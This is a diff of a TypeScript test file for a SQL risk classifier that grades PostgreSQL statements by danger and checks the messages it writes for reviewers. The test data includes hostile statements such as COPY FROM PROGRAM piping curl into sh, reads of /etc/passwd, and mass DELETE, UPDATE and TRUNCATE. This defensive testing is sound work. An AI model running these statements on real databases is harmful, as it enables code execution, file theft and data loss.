@@ -57,41 +57,58 @@ describe("ordinary writes and DDL are medium", () => {
     ["CREATE VIEW v AS SELECT 1", "medium", ["sql.schema_change"]],
     ["SELECT * INTO archive FROM orders", "medium", ["sql.schema_change"]],
     ["CREATE INDEX i ON t (a)", "medium", ["sql.create_index_blocking"]],
-    ["REINDEX TABLE t", "medium", ["sql.create_index_blocking"]],
     ["CREATE INDEX CONCURRENTLY i ON t (a)", "medium", ["sql.schema_change"]],
     ["ALTER TABLE t ADD COLUMN z int", "medium", ["sql.alter_table"]],
-    ["ALTER TABLE t DROP CONSTRAINT t_fk", "medium", ["sql.drop_constraint"]],
-    ["DROP INDEX i", "medium", ["sql.drop_object"]],
-    ["DROP VIEW v", "medium", ["sql.drop_object"]],
-    ["DROP FUNCTION f(int)", "medium", ["sql.drop_object"]],
-    ["DROP EXTENSION pgcrypto", "medium", ["sql.drop_object"]],
     ["CREATE EXTENSION pgcrypto", "medium", ["sql.schema_change"]],
-    ["VACUUM FULL t", "medium", ["sql.maintenance"]],
-    ["LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "medium", ["sql.maintenance"]],
-    ["SET ROLE admin", "medium", ["sql.set_role"]],
     ["SELECT setval('t_id_seq', 1)", "medium", ["sql.write"]],
+    ["VACUUM t", "medium", ["sql.maintenance"]],
+    ["LOCK TABLE t IN SHARE MODE", "medium", ["sql.maintenance"]],
+    ["REINDEX TABLE CONCURRENTLY t", "medium", ["sql.maintenance"]],
+    ["ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0) NOT VALID", "medium", ["sql.alter_table"]],
+    ["ALTER TABLE t ADD COLUMN d timestamptz DEFAULT now()", "medium", ["sql.alter_table"]],
+    ["ALTER TABLE t VALIDATE CONSTRAINT c", "medium", ["sql.alter_table"]],
+    ["SET ROLE NONE", "low", []],
   ]);
 });
 
 describe("high-risk statements", () => {
   table([
-    ["UPDATE t SET a = 1", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE 1=1", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE true", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE id = id", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE 'a'='a'", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE 1 = '1'", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE 't'::boolean", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE NOT false", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE 2 > 1 AND 1 = 1", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE id = 5 OR true", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE x IS NULL OR x IS NOT NULL", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE 1 IN (1, 2)", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE name LIKE '%'", "high", ["sql.update_without_where"]],
-    ["UPDATE t SET a = 1 WHERE EXISTS (SELECT 1)", "high", ["sql.update_without_where"]],
-    ["WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM x", "high", ["sql.update_without_where"]],
     ["ALTER TABLE t DROP COLUMN c", "high", ["sql.drop_column"]],
-    ["ALTER TABLE t ALTER COLUMN c TYPE bigint", "high", ["sql.alter_column_type"]],
+    ["ALTER TABLE t ALTER COLUMN c TYPE bigint", "high", ["sql.table_rewrite"]],
+    ["ALTER TABLE t DROP CONSTRAINT t_fk", "high", ["sql.drop_constraint"]],
+    ["DROP INDEX i", "high", ["sql.drop_index"]],
+    ["DROP INDEX CONCURRENTLY i", "high", ["sql.drop_index"]],
+    ["DROP VIEW v", "high", ["sql.drop_view"]],
+    ["DROP MATERIALIZED VIEW m", "high", ["sql.drop_materialized_view"]],
+    ["DROP FUNCTION f(int)", "high", ["sql.drop_function"]],
+    ["DROP EXTENSION pgcrypto", "high", ["sql.drop_extension"]],
+    ["DROP SEQUENCE s", "high", ["sql.drop_sequence"]],
+    ["DROP TRIGGER trg ON t", "high", ["sql.drop_trigger"]],
+    ["DROP TYPE mood", "high", ["sql.drop_type"]],
+    ["DROP POLICY p ON t", "high", ["sql.drop_policy"]],
+    ["DROP CAST (text AS int)", "high", ["sql.drop_cast"]],
+    ["REINDEX TABLE t", "high", ["sql.create_index_blocking"]],
+    ["VACUUM FULL t", "high", ["sql.table_rewrite"]],
+    ["CLUSTER t USING t_pkey", "high", ["sql.table_rewrite"]],
+    ["ALTER TABLE t SET TABLESPACE slow", "high", ["sql.table_rewrite"]],
+    ["ALTER TABLE t ADD COLUMN id bigserial", "high", ["sql.table_rewrite"]],
+    ["ALTER TABLE t ADD COLUMN u uuid DEFAULT gen_random_uuid()", "high", ["sql.table_rewrite"]],
+    ["ALTER TABLE t ADD COLUMN n int GENERATED ALWAYS AS (a * 2) STORED", "high", ["sql.table_rewrite"]],
+    ["ALTER TABLE t ADD PRIMARY KEY (id)", "high", ["sql.long_lock"]],
+    ["ALTER TABLE t ALTER COLUMN a SET NOT NULL", "high", ["sql.long_lock"]],
+    ["ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0)", "high", ["sql.long_lock"]],
+    ["ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (a) REFERENCES u (id)", "high", ["sql.long_lock"]],
+    ["LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "high", ["sql.long_lock"]],
+    ["LOCK t", "high", ["sql.long_lock"]],
+    ["ALTER TABLE t DISABLE TRIGGER ALL", "high", ["sql.disable_trigger"]],
+    ["ALTER TABLE t DISABLE TRIGGER audit", "high", ["sql.disable_trigger"]],
+    ["ALTER TABLE t DISABLE ROW LEVEL SECURITY", "high", ["sql.disable_row_security"]],
+    ["ALTER TABLE t RENAME TO t_old", "high", ["sql.rename"]],
+    ["ALTER TABLE t RENAME COLUMN a TO b", "high", ["sql.rename"]],
+    ["ALTER SCHEMA billing RENAME TO billing_old", "high", ["sql.rename"]],
+    ["CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "high", ["sql.create_trigger"]],
+    ["CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", "high", ["sql.create_rule"]],
+    ["SET ROLE admin", "high", ["sql.set_role"]],
     ["GRANT SELECT ON t TO bob", "high", ["sql.grant"]],
     ["GRANT admin TO bob", "high", ["sql.grant"]],
     ["ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "high", ["sql.grant"]],
@@ -110,8 +127,6 @@ describe("high-risk statements", () => {
     ["SET LOCAL session_replication_role TO replica", "high", ["sql.replication_role"]],
     ["SELECT set_config('session_replication_role', 'replica', false)", "high", ["sql.replication_role"]],
     ["ALTER ROLE app SET session_replication_role = replica", "high", ["sql.replication_role", "sql.role_change"]],
-    ["COPY t FROM PROGRAM 'curl http://x | sh'", "high", ["sql.copy_program"]],
-    ["COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'", "high", ["sql.copy_program"]],
     ["COPY t TO '/tmp/t.csv'", "high", ["sql.server_file_access"]],
     ["COPY t FROM '/etc/passwd'", "high", ["sql.server_file_access"]],
     ["SELECT pg_read_file('/etc/passwd')", "high", ["sql.server_file_access"]],
@@ -132,8 +147,6 @@ describe("high-risk statements", () => {
     ["SELECT dblink_exec('host=replica', 'SELECT 1')", "high", ["sql.opaque_code"]],
     ["CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS 'import os'", "high", ["sql.opaque_code", "sql.schema_change"]],
     ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$", "high", ["sql.opaque_code", "sql.schema_change"]],
-    ["DROP EXTENSION postgis CASCADE", "high", ["sql.drop_object"]],
-    ["DROP TYPE mood CASCADE", "high", ["sql.drop_object"]],
     ["selec 1", "high", ["sql.parse_error"]],
     ["SELECT * FROM", "high", ["sql.parse_error"]],
     ["SELECT 'unterminated", "high", ["sql.parse_error"]],
@@ -150,6 +163,21 @@ describe("critical statements", () => {
     ["TRUNCATE orders", "critical", ["sql.truncate"]],
     ["TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", "critical", ["sql.truncate"]],
     ["DELETE FROM orders", "critical", ["sql.delete_without_where"]],
+    ["UPDATE t SET a = 1", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 1=1", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE true", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE id = id", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 'a'='a'", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 1 = '1'", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 't'::boolean", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE NOT false", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 2 > 1 AND 1 = 1", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE id = 5 OR true", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE x IS NULL OR x IS NOT NULL", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE 1 IN (1, 2)", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE name LIKE '%'", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 1 WHERE EXISTS (SELECT 1)", "critical", ["sql.update_without_where"]],
+    ["WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM x", "critical", ["sql.update_without_where"]],
     ["DELETE FROM orders WHERE true", "critical", ["sql.delete_without_where"]],
     ["DELETE FROM orders o USING customers c WHERE 1 = 1", "critical", ["sql.delete_without_where"]],
     ["DELETE FROM customers WHERE id IN (SELECT id FROM customers)", "critical", ["sql.delete_without_where"]],
@@ -157,7 +185,13 @@ describe("critical statements", () => {
     ["DELETE FROM customers WHERE id IN (SELECT DISTINCT customers.id FROM customers)", "critical", ["sql.delete_without_where"]],
     ["DELETE FROM customers WHERE EXISTS (SELECT 1 FROM customers)", "critical", ["sql.delete_without_where"]],
     ["DELETE FROM customers WHERE false OR id IN (SELECT id FROM customers)", "critical", ["sql.delete_without_where"]],
-    ["UPDATE customers SET email = NULL WHERE id IN (SELECT id FROM customers)", "high", ["sql.update_without_where"]],
+    ["UPDATE customers SET email = NULL WHERE id IN (SELECT id FROM customers)", "critical", ["sql.update_without_where"]],
+    ["COPY t FROM PROGRAM 'curl http://x | sh'", "critical", ["sql.copy_program"]],
+    ["COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'", "critical", ["sql.copy_program"]],
+    ["DROP EXTENSION postgis CASCADE", "critical", ["sql.drop_extension"]],
+    ["DROP TYPE mood CASCADE", "critical", ["sql.drop_type"]],
+    ["ALTER SYSTEM SET fsync = off", "critical", ["sql.alter_system", "sql.disable_durability"]],
+    ["ALTER SYSTEM SET full_page_writes TO false", "critical", ["sql.alter_system", "sql.disable_durability"]],
     ["DELETE FROM customers WHERE id IN (SELECT id FROM customers WHERE deleted)", "medium", ["sql.write"]],
     ["DELETE FROM customers WHERE id IN (SELECT id FROM customers LIMIT 10)", "medium", ["sql.write"]],
     ["DELETE FROM customers WHERE id IN (SELECT id FROM other.customers)", "medium", ["sql.write"]],
@@ -187,7 +221,7 @@ describe("statements hidden inside other statements", () => {
     ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'TRUNCATE t; SELECT 1'", "critical", ["sql.schema_change", "sql.truncate"]],
     ["CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$", "critical", ["sql.drop_table", "sql.schema_change"]],
     ["CREATE FUNCTION f(n int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t WHERE id = n; RETURN 1; END $$", "medium", ["sql.schema_change", "sql.write"]],
-    ["CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "critical", ["sql.delete_without_where", "sql.schema_change"]],
+    ["CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "critical", ["sql.create_rule", "sql.delete_without_where"]],
     ["SELECT dblink_exec('dbname=prod', 'DROP TABLE y')", "critical", ["sql.drop_table", "sql.opaque_code"]],
     ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "critical", ["sql.delete_without_where", "sql.opaque_code"]],
   ]);
@@ -280,14 +314,46 @@ describe("messages a reviewer understands", () => {
     ["TRUNCATE a CASCADE", "Truncates `public.a`, deleting every row, and with CASCADE also every table that references it by foreign key"],
     ["DROP DATABASE prod", "Drops database `prod`"],
     ["ALTER TABLE t DROP COLUMN email", "Drops column `email` of `public.t`, deleting its data"],
-    ["DROP INDEX idx_orders", "Drops index `public.idx_orders`"],
-    ["DROP VIEW reporting.v CASCADE", "Drops view `reporting.v`, and with CASCADE every object that depends on it (which can include tables and columns)"],
+    ["DROP INDEX idx_orders", "Drops index `public.idx_orders`; queries that relied on it slow down, and a unique index stops enforcing uniqueness"],
+    ["DROP VIEW reporting.v CASCADE", "Drops view `reporting.v`, breaking every query and view that reads it, and with CASCADE every object that depends on it"],
+    ["DROP TYPE mood CASCADE", "Drops type `public.mood`, and with CASCADE every column of that type, with its data, and every other object that depends on it"],
+    ["DROP CAST (text AS int)", "Drops the cast from `text` to `pg_catalog.int4`, so expressions relying on it stop working"],
+    ["ALTER TABLE t SET UNLOGGED", "Makes `public.t` unlogged: its changes leave the WAL, so point-in-time recovery and replicas no longer have it, and a crash empties it"],
+    ["ALTER TABLE t DISABLE TRIGGER ALL", "Disables every trigger, including the ones that enforce foreign keys, on `public.t`, so what they do on each write (auditing, checks, derived data) silently stops"],
+    ["ALTER TABLE t ADD PRIMARY KEY (id)", "Adds a primary key to `public.t`, building its index while holding a lock that blocks writes (and reads, for a primary key)"],
+    ["ALTER TABLE t ALTER COLUMN a TYPE text", "Changes the type of column `a` of `public.t`, rewriting the table under an exclusive lock and converting every value"],
+    [
+      "ALTER TABLE t SET LOGGED, REPLICA IDENTITY FULL, ENABLE ROW LEVEL SECURITY, ALTER COLUMN a DROP NOT NULL",
+      "Alters table `public.t`: changes its replica identity (what logical replication sends for updated and deleted rows); turns on row-level security; allows NULL in column `a`",
+    ],
     ["GRANT SELECT, UPDATE ON orders TO bob", "Grants SELECT, UPDATE on table `public.orders` to `bob`"],
     ["SELECT pg_terminate_backend(42)", "Calls `pg_terminate_backend`, which terminates other database sessions and rolls back their work"],
     ["CREATE INDEX idx ON orders (created_at)", "Builds index `idx` on `public.orders` without CONCURRENTLY, blocking writes to the table until it finishes"],
     ["DO $$ BEGIN DELETE FROM t; END $$", "Inside the DO block: Deletes every row of `public.t`"],
   ])("%s", (sql, message) => {
     expect(assessSql(sql).findings.map((f) => f.message)).toContain(message);
+  });
+
+  it("describes REPLICA IDENTITY once, as part of the ALTER TABLE", () => {
+    const risk = assessSql("ALTER TABLE t REPLICA IDENTITY FULL");
+    expect(risk.findings).toEqual([
+      {
+        id: "sql.alter_table",
+        level: "medium",
+        message: "Alters table `public.t`: changes its replica identity (what logical replication sends for updated and deleted rows)",
+        targets: ["public.t"],
+      },
+    ]);
+  });
+
+  it("writes every ALTER TABLE subcommand as words, never as the parser's tag", () => {
+    const risk = assessSql(
+      "ALTER TABLE t ENABLE REPLICA TRIGGER trg, CLUSTER ON t_pkey, SET WITHOUT CLUSTER, INHERIT p, NO INHERIT p, ALTER COLUMN a SET STATISTICS 100, ALTER COLUMN a SET DEFAULT 1, FORCE ROW LEVEL SECURITY, DISABLE RULE r",
+    );
+    const message = risk.findings.find((f) => f.id === "sql.alter_table")?.message ?? "";
+    expect(message).toBe(
+      "Alters table `public.t`: makes trigger `trg` fire only during replication; marks index `t_pkey` for CLUSTER; clears its CLUSTER index; makes it inherit from `public.p`; stops it inheriting from `public.p`; changes the statistics target of column `a`; changes the default of column `a`; makes row-level security apply to its owner too; disables rule `r`",
+    );
   });
 
   it("never repeats role passwords in messages", () => {
@@ -317,6 +383,156 @@ describe("targets", () => {
     ["INSERT INTO archive SELECT * FROM orders", ["public.archive", "public.orders"]],
     ["TRUNCATE a, b", ["public.a", "public.b"]],
     ["GRANT SELECT ON s.t TO bob", ["s.t"]],
+    ["GRANT SELECT ON ALL TABLES IN SCHEMA reporting TO bob", ["reporting.*"]],
+    ["REVOKE ALL ON ALL SEQUENCES IN SCHEMA billing, audit FROM app", ["billing.*", "audit.*"]],
+    ["GRANT USAGE ON SCHEMA billing TO bob", ["billing.*"]],
+    ["REINDEX TABLE orders", ["public.orders"]],
+    ["REINDEX INDEX CONCURRENTLY s.idx", ["s.idx"]],
+    ["REINDEX SCHEMA billing", ["billing.*"]],
+    ["ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (a) REFERENCES u (id)", ["public.t", "public.u"]],
+  ])("%s", (sql, targets) => {
+    expect(assessSql(sql).targets).toEqual(targets);
+  });
+});
+
+describe("adversarial input is classified, not crashed on", () => {
+  it("finds `x IS NULL OR x IS NOT NULL` among thousands of null tests on other columns", () => {
+    const others = Array.from({ length: 4000 }, (_, i) => `a${i} IS NULL OR b${i} IS NOT NULL`).join(" OR ");
+    expect(assessSql(`DELETE FROM t WHERE ${others}`).level).toBe("medium");
+    const covering = assessSql(`DELETE FROM t WHERE ${others} OR a17 IS NOT NULL`);
+    expect(ids(covering)).toEqual(["sql.delete_without_where"]);
+  });
+
+  it("matches an expression against a long IN list of copies of itself", () => {
+    const items = Array.from({ length: 3000 }, (_, i) => `(a + ${i})`).join(", ");
+    expect(assessSql(`DELETE FROM t WHERE (a + b) IN (${items})`).level).toBe("medium");
+    expect(assessSql(`DELETE FROM t WHERE (a + b) IN (${items}, (a + b))`).level).toBe("critical");
+  });
+
+  it("reports a parse tree too deep to walk as opaque, keeping what it found before", () => {
+    const deep = `SELECT * FROM ${"(SELECT * FROM ".repeat(1000)}t${") s".repeat(1000)}`;
+    const risk = assessSql(`TRUNCATE orders; ${deep}`);
+    expect(ids(risk)).toEqual(["sql.opaque_code", "sql.truncate"]);
+    expect(risk.findings.find((f) => f.id === "sql.opaque_code")?.message).toMatch(/nested too deeply/);
+    const boolean = assessSql(`DELETE FROM t WHERE ${"a = 1 AND (b = 1 OR (".repeat(900)}c = 1${"))".repeat(900)}`);
+    expect(boolean.level).toBe("high");
+  });
+
+  it("lists every target of a statement naming tens of thousands of tables", () => {
+    const names = Array.from({ length: 150_000 }, (_, i) => `t${i}`);
+    const risk = assessSql(`LOCK TABLE ${names.join(", ")}`);
+    expect(risk.targets).toHaveLength(150_000);
+  });
+});
+
+describe("statements that looked harmless", () => {
+  table([
+    ["COMMIT PREPARED 'x'", "high", ["sql.opaque_code"]],
+    ["ROLLBACK PREPARED 'x'", "high", ["sql.opaque_code"]],
+    ["BEGIN; PREPARE TRANSACTION 'x'", "low", []],
+    ["SELECT pg_logical_slot_get_changes('s', NULL, NULL)", "high", ["sql.server_admin"]],
+    ["SELECT * FROM pg_logical_slot_get_binary_changes('s', NULL, NULL)", "high", ["sql.server_admin"]],
+    ["SELECT pg_replication_origin_advance('o', '0/0')", "high", ["sql.server_admin"]],
+    ["SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)", "low", []],
+    ["UPDATE pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'", "high", ["sql.replication_role"]],
+    ["UPDATE pg_catalog.pg_settings SET setting = 'replica' WHERE name = 'session_replication_role'", "high", ["sql.replication_role"]],
+    ["UPDATE pg_settings SET setting = 'replica' WHERE name LIKE 'session%'", "high", ["sql.replication_role"]],
+    ["UPDATE pg_settings SET setting = '5s' WHERE name = 'statement_timeout'", "low", []],
+    ["UPDATE pg_settings SET setting = 'origin' WHERE name = 'session_replication_role'", "low", []],
+    ["SELECT * FROM t FOR UPDATE", "medium", ["sql.row_lock"]],
+    ["SELECT id FROM jobs WHERE state = 'new' FOR UPDATE SKIP LOCKED LIMIT 1", "medium", ["sql.row_lock"]],
+    ["SELECT * FROM t FOR SHARE", "medium", ["sql.row_lock"]],
+    ["SELECT * FROM (SELECT * FROM t FOR NO KEY UPDATE) s", "medium", ["sql.row_lock"]],
+  ]);
+});
+
+describe("WHERE clauses that are always true, however they are spelled", () => {
+  table([
+    ["DELETE FROM t WHERE 1::bool", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE NULL IS NULL", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE 'x' IS NOT NULL", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE 1 BETWEEN 0 AND 2", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE 5 NOT BETWEEN 0 AND 2", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE 1 BETWEEN SYMMETRIC 2 AND 0", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE (SELECT true)", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE CASE WHEN true THEN true END", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE CASE WHEN a > 1 THEN true ELSE true END", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE CASE 1 WHEN 1 THEN true ELSE false END", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE coalesce(true, false)", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE coalesce(NULL, 't')::bool", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE 1 = ANY('{1}')", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE 2 = ANY(ARRAY[1, 2])", "critical", ["sql.delete_without_where"]],
+    ["UPDATE t SET a = 0 WHERE 1 < ALL('{2,3}')", "critical", ["sql.update_without_where"]],
+    ["UPDATE t SET a = 0 WHERE 1::bool AND 'x' IS NOT NULL", "critical", ["sql.update_without_where"]],
+  ]);
+});
+
+describe("a WHERE clause that reads no column matches every row or none: fail closed", () => {
+  table([
+    ["DELETE FROM t WHERE random() < 0.5", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE now() > '2026-01-01'", "critical", ["sql.delete_without_where"]],
+    ["DELETE FROM t WHERE EXISTS (SELECT 1 FROM u)", "critical", ["sql.delete_without_where"]],
+    ["UPDATE t SET a = 1 WHERE current_user = 'app'", "critical", ["sql.update_without_where"]],
+    // Provably false, a row-reading condition, or a cursor's current row: not every row.
+    ["DELETE FROM t WHERE 0::bool", "medium", ["sql.write"]],
+    ["DELETE FROM t WHERE 1 BETWEEN 2 AND 3", "medium", ["sql.write"]],
+    ["DELETE FROM t WHERE NULL IS NOT NULL", "medium", ["sql.write"]],
+    ["DELETE FROM t WHERE CASE WHEN true THEN false END", "medium", ["sql.write"]],
+    ["DELETE FROM t WHERE a = ANY('{1}')", "medium", ["sql.write"]],
+    ["DELETE FROM t WHERE 3 = ANY('{1,2}') OR id = 4", "medium", ["sql.write"]],
+    ["DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.t_id = t.id)", "medium", ["sql.write"]],
+    ["DELETE FROM t WHERE CURRENT OF c", "medium", ["sql.write"]],
+  ]);
+
+  it("says why a clause without a column counts as every row", () => {
+    expect(assessSql("DELETE FROM t WHERE random() < 0.5").findings[0]?.message).toBe(
+      "Deletes every row of `public.t` (its WHERE clause reads no column, so it matches every row or none)",
+    );
+  });
+});
+
+describe("targets follow SET search_path within the batch", () => {
+  it.each([
+    ["SET search_path TO billing; DELETE FROM customers WHERE id = 5", ["billing.customers"]],
+    ["SET search_path = 'billing'; SELECT * FROM invoices", ["billing.invoices"]],
+    ["SET LOCAL search_path TO \"$user\", billing; TRUNCATE invoices", ["billing.invoices"]],
+    ["SELECT set_config('search_path', 'billing', false); DROP TABLE invoices", ["billing.invoices"]],
+    ["SET search_path TO billing, public; DELETE FROM customers", ["billing.customers", "public.customers"]],
+    ["SET search_path TO billing; RESET search_path; DELETE FROM customers", ["public.customers"]],
+    ["SET search_path TO billing; SET search_path TO DEFAULT; DELETE FROM customers", ["public.customers"]],
+    ["SET search_path TO billing; SELECT * FROM pg_class, audit.log", ["pg_catalog.pg_class", "audit.log"]],
+    ["DELETE FROM customers WHERE id = 1; SET search_path TO billing", ["public.customers"]],
+  ])("%s", (sql, targets) => {
+    expect(assessSql(sql).targets).toEqual(targets);
+  });
+
+  it("names the schema in the finding and lists every candidate schema on it", () => {
+    const risk = assessSql("SET search_path TO billing, public; DELETE FROM customers");
+    expect(risk.findings[0]).toMatchObject({
+      id: "sql.delete_without_where",
+      message: "Deletes every row of `billing.customers`",
+      targets: ["billing.customers", "public.customers"],
+    });
+  });
+
+  it("fails closed on a search_path computed at run time", () => {
+    const risk = assessSql("SELECT set_config('search_path', current_setting('app.schema'), false); DELETE FROM customers WHERE id = 5");
+    expect(ids(risk)).toEqual(["sql.opaque_code", "sql.write"]);
+    expect(risk.level).toBe("high");
+    expect(risk.targets).toEqual(["*.customers"]);
+  });
+
+  it("does not carry a search_path from one assessment to the next", () => {
+    assessSql("SET search_path TO billing");
+    expect(assessSql("DELETE FROM customers WHERE id = 5").targets).toEqual(["public.customers"]);
+  });
+});
+
+describe("a function's own SET search_path applies to its body only", () => {
+  it.each([
+    ["CREATE FUNCTION f() RETURNS void LANGUAGE sql SET search_path = billing AS 'DELETE FROM invoices'", ["public.f", "billing.invoices"]],
+    ["CREATE FUNCTION f() RETURNS void LANGUAGE sql SET search_path = billing AS 'SELECT 1'; DELETE FROM invoices", ["public.f", "public.invoices"]],
+    ["CREATE PROCEDURE p() LANGUAGE plpgsql SET search_path TO audit AS $$ BEGIN TRUNCATE log; END $$", ["public.p", "audit.log"]],
   ])("%s", (sql, targets) => {
     expect(assessSql(sql).targets).toEqual(targets);
   });
